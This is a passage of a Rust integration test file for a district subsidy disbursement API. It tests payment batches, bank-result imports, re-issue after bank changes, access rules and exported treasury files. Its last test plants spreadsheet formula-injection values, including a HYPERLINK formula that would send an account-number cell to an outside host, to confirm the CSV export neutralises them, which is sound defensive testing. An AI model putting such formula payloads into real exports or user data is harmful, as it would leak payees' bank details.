//! Disbursement through HTTP: batches that never overlap, crashes resumed
//! without loss or duplicates, the bank's results imported idempotently and
//! refused whole when wrong, re-issue after a verified bank change, the
//! files, and who may do what. Runs on the standalone stack, and on the AWS
//! emulator when the run targets it.

use std::collections::{BTreeMap, BTreeSet};

use calamine::{DataType, Reader};
use serde_json::{Value, json};
use subsidy_tests::*;

/// Every line of a batch, through the API.
async fn lines(user: &User<'_>, batch: &str) -> Vec<Value> {
    let mut out = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/batches/{batch}/lines?limit=100&cursor={c}"),
            None => format!("/api/v1/batches/{batch}/lines?limit=100"),
        };
        let page = user.get(&path).await.ok();
        out.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["nextCursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return out,
        }
    }
}

fn fen(v: &Value) -> i64 {
    v["fen"].as_i64().unwrap_or_else(|| panic!("money in {v}"))
}

/// A ready batch of the given applications, released by the second finance user.
async fn released_batch(app: &TestApp) -> (String, Vec<Value>) {
    let maker = app.login("finance-futian").await;
    let batch = maker.post("/api/v1/batches", json!({"note": "第一批"})).await.ok();
    let id = batch["id"].as_str().unwrap().to_string();
    let checker = app.login("finance-futian-2").await;
    checker.post(&format!("/api/v1/batches/{id}/release"), json!({"version": batch["version"]})).await.ok();
    (id.clone(), lines(&maker, &id).await)
}

fn result_file(batch: &str, rows: &[(&str, &str, &str)], total: &str) -> String {
    let mut s = format!("\u{feff}批次号,{batch}\n笔数,{}\n总金额(元),{total}\n行号,状态,原因\n", rows.len());
    for (line, status, reason) in rows {
        s.push_str(&format!("{line},{status},{reason}\n"));
    }
    s
}

async fn import(app: &TestApp, user: &User<'_>, batch: &str, text: &str) -> Reply {
    app.raw(
        user.token.as_deref(),
        "POST",
        &format!("/api/v1/batches/{batch}/results"),
        "text/csv",
        text.as_bytes().to_vec(),
    )
    .await
}

/// Asks for a results upload of `bytes`; the reply carries `uploadId` and `upload`.
async fn results_ticket(user: &User<'_>, batch: &str, size: usize) -> Reply {
    user.post(&format!("/api/v1/batches/{batch}/results/upload"), json!({ "size": size })).await
}

/// Uploads a results file to the exports store, as the web client does,
/// and imports it by its upload id.
async fn upload_results(app: &TestApp, user: &User<'_>, batch: &str, bytes: &[u8]) -> Reply {
    let ticket = results_ticket(user, batch, bytes.len()).await;
    assert_eq!(ticket.status.as_u16(), 201, "{}", ticket.body);
    let put = app.presigned(&ticket.body["upload"], bytes).await;
    assert!(put.status.is_success(), "the upload: {} {}", put.status, put.body);
    user.post(&format!("/api/v1/batches/{batch}/results/import"), json!({"uploadId": ticket.body["uploadId"]})).await
}

#[tokio::test]
async fn parallel_batch_creations_split_the_applications_without_overlap() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 6).await;
    let finance = app.login("finance-futian").await;
    let eligible = finance.get("/api/v1/disbursement/eligible").await.ok();
    assert_eq!(eligible["count"], 6);
    let district_total = fen(&eligible["total"]);
    let replies =
        futures::future::join_all((0..4).map(|i| finance.post("/api/v1/batches", json!({"note": format!("并发{i}")}))))
            .await;
    let mut seen: BTreeMap<String, String> = BTreeMap::new();
    let mut total = 0;
    for r in &replies {
        match r.status.as_u16() {
            201 => {
                let id = r.body["id"].as_str().unwrap();
                assert_eq!(r.body["state"], "ready");
                let ls = lines(&finance, id).await;
                assert_eq!(ls.len() as u64, r.body["lineCount"].as_u64().unwrap(), "control count");
                assert_eq!(ls.iter().map(|l| fen(&l["amount"])).sum::<i64>(), fen(&r.body["total"]), "control total");
                for l in ls {
                    let prev = seen.insert(l["applicationId"].as_str().unwrap().to_string(), id.to_string());
                    assert!(prev.is_none(), "an application in two batches: {l}");
                }
                total += fen(&r.body["total"]);
            }
            409 => assert_eq!(r.code(), "nothing_to_pay", "{}", r.body),
            other => panic!("unexpected {other}: {}", r.body),
        }
    }
    let want: BTreeSet<String> = ids.into_iter().collect();
    assert_eq!(seen.keys().cloned().collect::<BTreeSet<_>>(), want, "every application in exactly one batch");
    assert_eq!(total, district_total, "the batch totals sum to the district total");
    let budget = finance.get("/api/v1/disbursement/budget").await.ok();
    assert_eq!(fen(&budget["committed"]), district_total);
    assert_eq!(fen(&budget["remaining"]) + fen(&budget["committed"]), fen(&budget["allocated"]));
    assert_eq!(finance.get("/api/v1/disbursement/eligible").await.ok()["count"], 0);
}

#[tokio::test]
async fn a_creation_interrupted_after_k_claims_resumes_without_loss_or_duplicates() {
    for k in [0usize, 1, 3] {
        let app = TestApp::spawn().await;
        let ids = approved_applications(&app, 4).await;
        let finance = app.login("finance-futian").await;
        let actor = subsidy_standalone::demo::actor(&app.services, "finance-futian").unwrap();
        // The process dies after k claims: the batch stays in `building`.
        let batch = app.services.batches.start_batch(&actor, &Default::default()).await.unwrap();
        assert_eq!(app.services.batches.fill_batch(&actor, &batch.id, Some(k)).await.unwrap(), k);
        let half = finance.get(&format!("/api/v1/batches/{}", batch.id)).await.ok();
        assert_eq!(half["state"], "building", "k = {k}");
        assert_eq!(lines(&finance, &batch.id).await.len(), k);
        // Resumed: every application exactly once.
        let done = finance.post(&format!("/api/v1/batches/{}/resume", batch.id), json!({})).await.ok();
        assert_eq!(done["state"], "ready");
        assert_eq!(done["lineCount"], 4, "k = {k}");
        let ls = lines(&finance, &batch.id).await;
        let in_batch: BTreeSet<String> = ls.iter().map(|l| l["applicationId"].as_str().unwrap().to_string()).collect();
        assert_eq!(in_batch.len(), 4, "no duplicates, k = {k}");
        assert_eq!(in_batch, ids.iter().cloned().collect());
        let budget = finance.get("/api/v1/disbursement/budget").await.ok();
        assert_eq!(fen(&budget["committed"]), fen(&done["total"]), "the budget holds each amount once");
    }
}

/// Lets the batch queue work (the dispatcher, or the emulator's queues)
/// until the batch leaves `building`.
async fn built(app: &TestApp, user: &User<'_>, id: &str) -> Value {
    for _ in 0..50 {
        app.drain().await;
        let b = user.get(&format!("/api/v1/batches/{id}")).await.ok();
        if b["state"] != "building" {
            return b;
        }
    }
    panic!("batch {id} still building after 50 rounds of the queue");
}

fn step_of(app: &TestApp, n: usize) {
    app.services.ports.batch_step.store(n, std::sync::atomic::Ordering::Relaxed);
}

#[tokio::test]
async fn a_batch_larger_than_a_step_answers_building_and_the_queue_finishes_it() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 7).await;
    // The request claims a quarter of a step, the queue a step at a time.
    step_of(&app, 8);
    let finance = app.login("finance-futian").await;
    let district_total = fen(&finance.get("/api/v1/disbursement/eligible").await.ok()["total"]);
    let r = finance.post("/api/v1/batches", json!({"note": "大批次"})).await;
    assert_eq!(r.status.as_u16(), 202, "{}", r.body);
    assert_eq!(r.body["state"], "building");
    let id = r.body["id"].as_str().unwrap().to_string();
    assert_eq!(lines(&finance, &id).await.len(), 2, "the request claimed its share");
    // Not ready yet: no file, no release.
    finance.get(&format!("/api/v1/batches/{id}/file")).await.expect(409, "wrong_state");
    let checker = app.login("finance-futian-2").await;
    checker
        .post(&format!("/api/v1/batches/{id}/release"), json!({"version": r.body["version"]}))
        .await
        .expect(409, "wrong_state");

    let b = built(&app, &finance, &id).await;
    assert_eq!(b["state"], "ready", "{b}");
    assert_eq!(b["lineCount"], 7);
    assert_eq!(fen(&b["total"]), district_total);
    let ls = lines(&finance, &id).await;
    let in_batch: BTreeSet<String> = ls.iter().map(|l| l["applicationId"].as_str().unwrap().to_string()).collect();
    assert_eq!(ls.len(), 7, "no duplicates");
    assert_eq!(in_batch, ids.into_iter().collect());
    let budget = finance.get("/api/v1/disbursement/budget").await.ok();
    assert_eq!(fen(&budget["committed"]), district_total, "the budget holds each amount once");
    // The queue acted for the creator: the trail names them, not a robot.
    let trail = app.services.ports.applications.audit_trail(&format!("batch:{id}")).await.unwrap();
    let ready = trail.iter().find(|e| e.action == "batch_ready").expect("batch_ready audited");
    assert_eq!(ready.actor_id, trail[0].actor_id);
    // Ready is not released: still no file, however long the queue runs.
    app.drain().await;
    assert_eq!(finance.get(&format!("/api/v1/batches/{id}")).await.ok()["filesReady"], false);
    finance.get(&format!("/api/v1/batches/{id}/file")).await.expect(409, "wrong_state");
    let released = checker.post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]})).await.ok();
    assert_eq!(released["state"], "released");
    app.drain().await;
    assert_eq!(finance.get(&format!("/api/v1/batches/{id}")).await.ok()["filesReady"], true);
}

#[tokio::test]
async fn batches_built_by_the_queue_side_by_side_never_overlap() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 9).await;
    step_of(&app, 4);
    let finance = app.login("finance-futian").await;
    let district_total = fen(&finance.get("/api/v1/disbursement/eligible").await.ok()["total"]);
    let replies =
        futures::future::join_all((0..3).map(|i| finance.post("/api/v1/batches", json!({"note": format!("并行{i}")}))))
            .await;
    let mut created = Vec::new();
    for r in &replies {
        match r.status.as_u16() {
            201 | 202 => created.push(r.body["id"].as_str().unwrap().to_string()),
            409 => assert_eq!(r.code(), "nothing_to_pay", "{}", r.body),
            other => panic!("unexpected {other}: {}", r.body),
        }
    }
    let mut seen: BTreeMap<String, String> = BTreeMap::new();
    let mut total = 0;
    for id in &created {
        let b = built(&app, &finance, id).await;
        // A batch the others left nothing for is cancelled, not stuck.
        match b["state"].as_str().unwrap() {
            "ready" => {
                let ls = lines(&finance, id).await;
                assert_eq!(ls.len() as u64, b["lineCount"].as_u64().unwrap(), "control count");
                for l in ls {
                    let prev = seen.insert(l["applicationId"].as_str().unwrap().to_string(), id.clone());
                    assert!(prev.is_none(), "an application in two batches: {l}");
                }
                total += fen(&b["total"]);
            }
            "cancelled" => assert_eq!(b["lineCount"], 0, "{b}"),
            other => panic!("batch {id} ended {other}"),
        }
    }
    assert_eq!(seen.keys().cloned().collect::<BTreeSet<_>>(), ids.into_iter().collect::<BTreeSet<_>>());
    assert_eq!(total, district_total);
    assert_eq!(fen(&finance.get("/api/v1/disbursement/budget").await.ok()["committed"]), district_total);
}

/// A released batch of 7 lines, built with a step of 8: an import's
/// request settles a quarter of a step (2 lines), the queue the rest.
/// The batch's id, the batch, its lines.
async fn long_released_batch(app: &TestApp, finance: &User<'_>) -> (String, Value, Vec<Value>) {
    approved_applications(app, 7).await;
    step_of(app, 8);
    let created = finance.post("/api/v1/batches", json!({})).await;
    let id = created.body["id"].as_str().unwrap().to_string();
    let b = built(app, finance, &id).await;
    let checker = app.login("finance-futian-2").await;
    checker.post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]})).await.ok();
    let ls = lines(finance, &id).await;
    assert_eq!(ls.len(), 7);
    (id, b, ls)
}

#[tokio::test]
async fn a_long_results_file_is_settled_by_the_queue_and_the_batch_reconciled() {
    let app = TestApp::spawn().await;
    let finance = app.login("finance-futian").await;
    let (id, b, ls) = long_released_batch(&app, &finance).await;
    let rows: Vec<(&str, &str, &str)> = ls
        .iter()
        .enumerate()
        .map(|(i, l)| {
            (l["id"].as_str().unwrap(), if i == 5 { "失败" } else { "成功" }, if i == 5 { "账号不存在" } else { "" })
        })
        .collect();
    let total = b["total"]["yuan"].as_str().unwrap();

    // Refused whole even when long: one line of another batch.
    let mut foreign = rows.clone();
    foreign[6].0 = "01NOTINTHISBATCH0000000000";
    let r = import(&app, &finance, &id, &result_file(&id, &foreign, total)).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);
    app.drain().await;
    assert!(lines(&finance, &id).await.iter().all(|l| l["status"] == "pending"), "nothing settled");

    let file = result_file(&id, &rows, total);
    let r = import(&app, &finance, &id, &file).await;
    assert_eq!(r.status.as_u16(), 202, "{}", r.body);
    assert_eq!(r.body["state"], "released");
    let settled = lines(&finance, &id).await.iter().filter(|l| l["status"] != "pending").count();
    assert_eq!(settled, 2, "the request settled its share");
    app.drain().await;
    let done = finance.get(&format!("/api/v1/batches/{id}")).await.ok();
    assert_eq!(
        (done["state"].as_str(), done["paidCount"].as_u64(), done["failedCount"].as_u64()),
        (Some("reconciled"), Some(6), Some(1)),
        "{done}"
    );
    let budget = finance.get("/api/v1/disbursement/budget").await.ok();
    let failed_amount = fen(&ls[5]["amount"]);
    assert_eq!(fen(&budget["paid"]), fen(&b["total"]) - failed_amount);
    assert_eq!(fen(&budget["committed"]), 0);
    // The same file again: answered at once, nothing changes.
    let again = import(&app, &finance, &id, &file).await;
    assert_eq!(again.status.as_u16(), 200, "{}", again.body);
    assert_eq!(again.body["version"], done["version"]);
    let trail = app.services.ports.applications.audit_trail(&format!("batch:{id}")).await.unwrap();
    assert_eq!(trail.iter().filter(|e| e.action == "import_results").count(), 1, "one import recorded");
}

#[tokio::test]
async fn a_batch_left_building_by_a_stop_is_built_on_when_the_server_starts() {
    // The standalone batch queue is in memory: a stop loses its messages.
    let app = TestApp::spawn_standalone().await;
    let ids = approved_applications(&app, 5).await;
    let actor = subsidy_standalone::demo::actor(&app.services, "finance-futian").unwrap();
    let batch = app.services.batches.start_batch(&actor, &Default::default()).await.unwrap();
    assert_eq!(app.services.batches.fill_batch(&actor, &batch.id, Some(2)).await.unwrap(), 2);
    let app = app.restart().await;
    let finance = app.login("finance-futian").await;
    let b = built(&app, &finance, &batch.id).await;
    assert_eq!(b["state"], "ready", "{b}");
    assert_eq!(b["lineCount"], 5);
    let in_batch: BTreeSet<String> =
        lines(&finance, &batch.id).await.iter().map(|l| l["applicationId"].as_str().unwrap().to_string()).collect();
    assert_eq!(in_batch, ids.into_iter().collect());
}

#[tokio::test]
async fn resume_refuses_a_batch_that_is_not_building_and_a_strangers_batch() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 2).await;
    let finance = app.login("finance-futian").await;
    let b = finance.post("/api/v1/batches", json!({})).await;
    assert_eq!(b.status.as_u16(), 201, "two lines fit in the request's share: {}", b.body);
    let id = b.body["id"].as_str().unwrap();
    finance.post(&format!("/api/v1/batches/{id}/resume"), json!({})).await.expect(409, "wrong_state");
    let other = app.login("finance-dapeng").await;
    other.post(&format!("/api/v1/batches/{id}/resume"), json!({})).await.expect(404, "not_found");
    finance.post("/api/v1/batches/NOPE/resume", json!({})).await.expect(404, "not_found");
    // Nothing changed.
    let after = finance.get(&format!("/api/v1/batches/{id}")).await.ok();
    assert_eq!(after["state"], "ready");
    assert_eq!(after["version"], b.body["version"]);
}

#[tokio::test]
async fn a_cancelled_batch_returns_every_application() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 2).await;
    let finance = app.login("finance-futian").await;
    let b = finance.post("/api/v1/batches", json!({})).await.ok();
    let id = b["id"].as_str().unwrap();
    finance.post(&format!("/api/v1/batches/{id}/cancel"), json!({"version": 0})).await.expect(409, "version_conflict");
    let cancelled = finance.post(&format!("/api/v1/batches/{id}/cancel"), json!({"version": b["version"]})).await.ok();
    assert_eq!(cancelled["state"], "cancelled");
    assert!(lines(&finance, id).await.iter().all(|l| l["status"] == "cancelled"));
    assert_eq!(finance.get("/api/v1/disbursement/eligible").await.ok()["count"], 2);
    assert_eq!(fen(&finance.get("/api/v1/disbursement/budget").await.ok()["committed"]), 0);
    finance
        .post(&format!("/api/v1/batches/{id}/release"), json!({"version": cancelled["version"]}))
        .await
        .expect(409, "wrong_state");
}

#[tokio::test]
async fn the_banks_results_import_once_and_a_wrong_file_is_refused_whole() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 3).await;
    let (batch, ls) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let (l0, l1, l2) = (ls[0]["id"].as_str().unwrap(), ls[1]["id"].as_str().unwrap(), ls[2]["id"].as_str().unwrap());
    let amount = |l: &Value| l["amount"]["yuan"].as_str().unwrap().to_string();
    let two = subsidy_core::money::Fen::new(fen(&ls[0]["amount"]) + fen(&ls[1]["amount"])).unwrap().to_string();

    // Refused whole: a foreign line, a wrong total, a duplicate line.
    let before = finance.get(&format!("/api/v1/batches/{batch}")).await.ok();
    let foreign = result_file(&batch, &[(l0, "成功", ""), ("01NOTINTHISBATCH0000000000", "成功", "")], &amount(&ls[0]));
    let r = import(&app, &finance, &batch, &foreign).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);
    assert!(r.body["error"]["problems"].to_string().contains("01NOTINTHISBATCH0000000000"), "{}", r.body);
    let wrong_total = result_file(&batch, &[(l0, "成功", ""), (l1, "失败", "户名不符")], "1.00");
    let r = import(&app, &finance, &batch, &wrong_total).await;
    assert_eq!(r.code(), "results_refused");
    assert!(r.body["error"]["problems"].to_string().contains("总金额"));
    let duplicate = result_file(&batch, &[(l0, "成功", ""), (l0, "成功", "")], &two);
    let r = import(&app, &finance, &batch, &duplicate).await;
    assert!(r.body["error"]["problems"].to_string().contains(l0) && r.code() == "results_refused");
    assert_eq!(
        finance.get(&format!("/api/v1/batches/{batch}")).await.ok()["version"],
        before["version"],
        "nothing changed"
    );
    assert!(lines(&finance, &batch).await.iter().all(|l| l["status"] == "pending"));

    // A partial answer: one paid, one failed, one still out.
    let partial = result_file(&batch, &[(l0, "成功", ""), (l1, "失败", "户名不符")], &two);
    let after = import(&app, &finance, &batch, &partial).await.ok();
    assert_eq!(
        (after["state"].as_str(), after["paidCount"].as_u64(), after["failedCount"].as_u64()),
        (Some("released"), Some(1), Some(1))
    );
    // The same file again changes nothing.
    let again = import(&app, &finance, &batch, &partial).await.ok();
    assert_eq!(again["version"], after["version"]);
    // Contradicting an earlier answer is refused.
    let flip = result_file(&batch, &[(l0, "失败", "退票")], &amount(&ls[0]));
    let r = import(&app, &finance, &batch, &flip).await;
    assert!(r.body["error"]["problems"].to_string().contains("already recorded as paid"), "{}", r.body);
    // The rest arrives: reconciled.
    let rest = result_file(&batch, &[(l2, "成功", "")], &amount(&ls[2]));
    assert_eq!(import(&app, &finance, &batch, &rest).await.ok()["state"], "reconciled");
    app.drain().await;

    let company = app.login("company-a").await;
    let mut states = Vec::new();
    for id in &ids {
        states.push(company.application(id).await["state"].as_str().unwrap().to_string());
    }
    assert_eq!(states.iter().filter(|s| *s == "paid").count(), 2);
    let failed_id = ls[1]["applicationId"].as_str().unwrap();
    let failed = company.application(failed_id).await;
    assert_eq!(failed["state"], "payment_failed");
    assert_eq!(failed["lastDecision"]["reason"], "户名不符", "the company sees why");
    let budget = finance.get("/api/v1/disbursement/budget").await.ok();
    assert_eq!(fen(&budget["paid"]), fen(&ls[0]["amount"]) + fen(&ls[2]["amount"]));
    assert_eq!(fen(&budget["committed"]), 0);
    // The live totals follow the money.
    let stats = app.login("district-futian").await.get("/api/v1/stats/440304").await.ok();
    assert_eq!(stats["totals"]["counts"]["paid"], 2);
    assert_eq!(stats["totals"]["counts"]["paymentFailed"], 1);
}

#[tokio::test]
async fn a_failed_payment_is_reissued_only_after_a_verified_bank_change() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 1).await;
    let (batch, ls) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let line = ls[0]["id"].as_str().unwrap().to_string();
    let id = ls[0]["applicationId"].as_str().unwrap().to_string();
    let failed = result_file(&batch, &[(&line, "失败", "账号不存在")], ls[0]["amount"]["yuan"].as_str().unwrap());
    import(&app, &finance, &batch, &failed).await.ok();

    // No payment without the district: the failed application is not eligible.
    assert_eq!(finance.get("/api/v1/disbursement/eligible").await.ok()["count"], 0);
    finance.post("/api/v1/batches", json!({})).await.expect(409, "nothing_to_pay");

    // The company corrects its account: recorded, masked, and still blocked.
    let company = app.login("company-a").await;
    let profile = company.get("/api/v1/company").await.ok();
    let update = json!({
        "version": profile["version"], "creditCode": profile["creditCode"], "name": profile["name"],
        "legalRepresentative": profile["legalRepresentative"], "contactName": profile["contactName"],
        "bankAccount": {"bankName": "中国建设银行深圳分行", "accountName": profile["name"], "accountNumber": "4420 1555 6666 7777 888"}
    });
    company.put("/api/v1/company", update).await.ok();
    let seen = company.application(&id).await;
    assert_eq!(seen["payeeChangePending"], true);
    assert_eq!(seen["state"], "payment_failed");
    let trail = company.get(&format!("/api/v1/applications/{id}/timeline")).await.ok();
    let change =
        trail.as_array().unwrap().iter().find(|e| e["action"] == "request_bank_account_change").expect("audited");
    assert!(
        change["comment"].as_str().unwrap().contains("****7888") && !change.to_string().contains("4420155566667777888")
    );
    assert_eq!(finance.get("/api/v1/disbursement/eligible").await.ok()["count"], 0);

    // The district verifies; the application comes back and goes into a new batch as a revised line.
    let district = app.login("district-futian").await;
    let path = format!("/api/v1/review/district/applications/{id}/verify-bank-account");
    app.login("community-nanyuan")
        .await
        .act(&id, &path.replace("district/", "community/"), json!({}))
        .await
        .expect(404, "not_found");
    // Not without opening the account in full first; then by the verifier.
    district.act(&id, &path, json!({})).await.expect(409, "reveal_required");
    let verified = district.reveal_and_verify(&id, false).await.ok();
    assert_eq!((verified["state"].as_str(), verified["payeeChangePending"].as_bool()), (Some("approved"), Some(false)));
    assert_eq!(verified["payee"]["accountNumberMasked"], "****7888");
    let second = finance.post("/api/v1/batches", json!({"note": "重发"})).await.ok();
    let new_lines = lines(&finance, second["id"].as_str().unwrap()).await;
    assert_eq!(new_lines.len(), 1);
    assert_eq!(new_lines[0]["revises"], line.as_str(), "the new line references the original");
    assert_eq!(new_lines[0]["payee"]["accountNumberMasked"], "****7888");
    let original = lines(&finance, &batch).await;
    assert_eq!(original[0]["status"], "failed", "the original line stays, marked failed");
    // Never two live lines: the application cannot be claimed again.
    assert_eq!(finance.get("/api/v1/disbursement/eligible").await.ok()["count"], 0);
    finance.post("/api/v1/batches", json!({})).await.expect(409, "nothing_to_pay");
    // While the line is with the bank the account cannot change.
    let profile = company.get("/api/v1/company").await.ok();
    let mut again = json!({
        "version": profile["version"], "creditCode": profile["creditCode"], "name": profile["name"],
        "legalRepresentative": profile["legalRepresentative"], "contactName": profile["contactName"],
        "bankAccount": {"bankName": "x银行", "accountName": profile["name"], "accountNumber": "1234567812345678"}
    });
    company.put("/api/v1/company", again.clone()).await.expect(409, "payment_in_progress");
    again["version"] = json!(0);
    assert_eq!(company.get("/api/v1/company").await.ok()["bankAccount"]["accountNumberMasked"], "****7888");
}

#[tokio::test]
async fn only_the_districts_finance_may_touch_its_batches_and_the_creator_cannot_release() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 1).await;
    let maker = app.login("finance-futian").await;
    for user in ["community-nanyuan", "subdistrict-nanyuan", "district-futian", "company-a", "pm-a", "city"] {
        let u = app.login(user).await;
        u.post("/api/v1/batches", json!({})).await.expect(404, "not_found");
        u.get("/api/v1/disbursement/budget").await.expect(404, "not_found");
    }
    let b = maker.post("/api/v1/batches", json!({})).await.ok();
    let id = b["id"].as_str().unwrap();
    maker
        .post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]}))
        .await
        .expect(409, "maker_checker");
    let other = app.login("finance-dapeng").await;
    for path in [
        format!("/api/v1/batches/{id}"),
        format!("/api/v1/batches/{id}/lines"),
        format!("/api/v1/batches/{id}/file?format=csv"),
    ] {
        let r = other.get(&path).await;
        assert_eq!((r.status.as_u16(), r.code()), (404, "not_found"), "{path}");
        assert!(!r.body.to_string().contains(id) || r.body["error"].is_object());
    }
    other
        .post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]}))
        .await
        .expect(404, "not_found");
    app.login("district-futian").await.get(&format!("/api/v1/batches/{id}/file")).await.expect(404, "not_found");
    app.login("company-a").await.get(&format!("/api/v1/batches/{id}/file")).await.expect(404, "not_found");
    assert!(other.get("/api/v1/batches").await.ok()["items"].as_array().unwrap().is_empty());
    let released = app
        .login("finance-futian-2")
        .await
        .post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]}))
        .await
        .ok();
    assert_eq!(released["releasedBy"], "demo-finance-futian-2");
}

#[tokio::test]
async fn the_batch_file_parses_back_with_exact_totals_and_full_account_numbers() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 3).await;
    let finance = app.login("finance-futian").await;
    let b = finance.post("/api/v1/batches", json!({})).await.ok();
    let id = b["id"].as_str().unwrap();
    let masked = lines(&finance, id).await;
    assert!(masked.iter().all(|l| l["payee"]["accountNumberMasked"] == "****0123"), "the API masks");
    assert!(!masked.iter().any(|l| l.to_string().contains("4000021234567890123")));
    // No file before a second person releases the batch.
    app.drain().await;
    finance.get(&format!("/api/v1/batches/{id}/file?format=csv")).await.expect(409, "wrong_state");
    let checker = app.login("finance-futian-2").await;
    checker.post(&format!("/api/v1/batches/{id}/release"), json!({"version": b["version"]})).await.ok();
    app.drain().await; // the export request is served
    let link = finance.get(&format!("/api/v1/batches/{id}/file?format=csv")).await.ok();
    let csv = app.client.get(link["download"]["url"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
    assert!(csv.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(csv[3..].to_vec()).unwrap();
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows[0], ["批次号", id]);
    assert_eq!(rows[1][1], "3");
    assert_eq!(rows[3][1], "物业服务企业疫情防控服务财政补助");
    assert_eq!(rows[4][0], "行号");
    let body = &rows[5..];
    assert_eq!(body.len(), 3);
    let cents = |s: &str| s.replace('.', "").parse::<i64>().unwrap();
    assert_eq!(body.iter().map(|r| cents(&r[7])).sum::<i64>(), cents(&rows[2][1]), "control total = sum of lines");
    assert_eq!(cents(&rows[2][1]), fen(&b["total"]));
    assert!(body.iter().all(|r| r[2] == "深圳市安居物业服务有限公司"
        && r[6] == "4000021234567890123"
        && r[8] == "物业服务企业疫情防控服务财政补助"));

    let link = finance.get(&format!("/api/v1/batches/{id}/file")).await.ok();
    let xlsx = app.client.get(link["download"]["url"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    let range = book.worksheet_range("支付明细").unwrap();
    assert_eq!(range.get((0, 1)).unwrap().to_string(), id);
    let total = (range.get((2, 1)).unwrap().as_f64().unwrap() * 100.0).round() as i64;
    assert_eq!(total, fen(&b["total"]));
    let sum: i64 = (5..8).map(|r| (range.get((r, 7)).unwrap().as_f64().unwrap() * 100.0).round() as i64).sum();
    assert_eq!(sum, total, "amounts exact to the fen");
    assert_eq!(range.get((5, 6)).unwrap().to_string(), "4000021234567890123");
    assert_eq!(range.get((5, 2)).unwrap().to_string(), "深圳市安居物业服务有限公司");
    finance.get(&format!("/api/v1/batches/{id}/file?format=pdf")).await.expect(400, "invalid_query");
}

#[tokio::test]
async fn no_batch_past_the_payout_deadline_or_beyond_the_budget() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 1).await;
    let finance = app.login("finance-futian").await;
    let deadline: chrono::DateTime<chrono::Utc> =
        finance.get("/api/v1/policy").await.ok()["payoutDeadline"].as_str().unwrap().parse().unwrap();
    app.clock.set(deadline);
    finance.post("/api/v1/batches", json!({})).await.expect(409, "payout_deadline_passed");
    app.clock.set(deadline - chrono::Duration::days(40));

    // 大鹏新区's budget is 3,000,000 yuan: a 4,000,000 m² claim does not fit.
    let b = app.login("company-b").await;
    let big = b
        .post(
            "/api/v1/projects",
            json!({"name": "葵涌大型社区", "address": "葵涌", "community": "440307009001", "managedArea": "4000000",
                   "managerName": "陈项目经理", "managerPhone": "13800138002"}),
        )
        .await
        .ok();
    let id =
        b.post("/api/v1/applications", json!({"projectId": big["id"]})).await.ok()["id"].as_str().unwrap().to_string();
    b.upload_required(&id).await;
    b.act(&id, "/api/v1/applications/{id}/submit", json!({})).await.ok();
    app.login("pm-b").await.act(&id, "/api/v1/applications/{id}/confirm-area", json!({})).await.ok();
    for (user, tier) in
        [("community-kuichong", "community"), ("subdistrict-kuichong", "subdistrict"), ("district-dapeng", "district")]
    {
        app.login(user)
            .await
            .act(&id, &format!("/api/v1/review/{tier}/applications/{{id}}/approve"), json!({}))
            .await
            .ok();
    }
    let dapeng = app.login("finance-dapeng").await;
    let r = dapeng.post("/api/v1/batches", json!({})).await.expect(409, "budget_exceeded");
    assert!(r["error"]["message"].as_str().unwrap().contains("3000000.00"), "{r}");
    assert_eq!(dapeng.get("/api/v1/disbursement/eligible").await.ok()["count"], 1);
}

/// A company, its bank and its estates named as formulas reach finance's
/// CSV as text: every such cell begins with `'`, and the amounts stay
/// numbers that sum to the control total.
#[tokio::test]
async fn names_typed_as_formulas_reach_the_treasury_csv_as_text() {
    let app = TestApp::spawn().await;
    let company = app.with_token(&app.token(json!({"sub": "formula-company", "name": "经办人"})));
    let code = subsidy_core::company::credit_code::CreditCode::with_check_character("91440300MA5D00029").unwrap();
    let name = r#"=HYPERLINK("http://x/?"&G6,"详情")"#;
    company
        .put(
            "/api/v1/company",
            json!({"creditCode": code.as_str(), "name": name, "legalRepresentative": "法人", "contactName": "经办人",
                "contactPhone": "13700137000",
                "bankAccount": {"bankName": "@开户银行", "accountName": "-户名", "accountNumber": "6217000012345678"}}),
        )
        .await
        .ok();
    let estates: Vec<String> = ["=1+1", "+南园一号", "-南园二号", "@南园三号"].map(String::from).to_vec();
    approved_projects(&app, &company, &estates).await;
    let (id, _) = released_batch(&app).await;
    app.drain().await;
    let finance = app.login("finance-futian").await;
    let link = finance.get(&format!("/api/v1/batches/{id}/file?format=csv")).await.ok();
    let csv = app.client.get(link["download"]["url"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(&csv[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let ours: Vec<&Vec<String>> = rows[5..].iter().filter(|r| r[3] == code.as_str()).collect();
    assert_eq!(ours.len(), 4, "{rows:?}");
